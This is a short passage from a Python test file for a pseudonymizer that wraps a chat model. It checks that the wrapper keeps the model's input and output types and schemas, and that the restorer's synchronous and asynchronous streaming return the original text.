    """Schemas say what goes in and out."""
    hide = pseudonymizer()
    llm = server.chat_model()
    assert hide.wrap(llm).InputType == llm.InputType
    assert hide.wrap(llm).OutputType == llm.OutputType
    for end in (hide, hide.restorer()):
        assert end.get_input_schema().model_json_schema()
        assert end.get_output_schema().model_json_schema()


def test_the_restorer_takes_one_value() -> None:
    """`stream` and `astream` of a single value."""
    hide = pseudonymizer()
    place = hide.invoke(JANE, THREAD)
    assert text(list(hide.restorer().stream(place, THREAD))) == JANE
    assert text(asyncio.run(drained(hide.restorer().astream(place, THREAD)))) == JANE
